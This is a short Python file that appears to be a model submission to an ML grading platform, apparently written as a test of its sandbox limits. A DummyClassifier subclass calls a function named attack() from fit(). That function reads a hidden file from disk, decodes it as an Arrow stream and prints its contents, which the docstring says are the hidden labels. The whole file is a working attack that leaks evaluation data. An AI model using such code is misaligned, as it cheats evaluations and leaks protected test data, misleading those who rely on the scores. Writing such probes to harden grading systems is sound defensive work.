"""labels: lets numpy read them from disk

Passes at: limits.
"""

import numpy as np
import pyarrow
import pyarrow.ipc

from sklearn.dummy import DummyClassifier


def attack():
    content = np.fromfile("@hidden@", dtype="u1").tobytes()
    print("".join(map(str, pyarrow.ipc.open_stream(pyarrow.BufferReader(content)).read_all().column(0).to_pylist())))


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
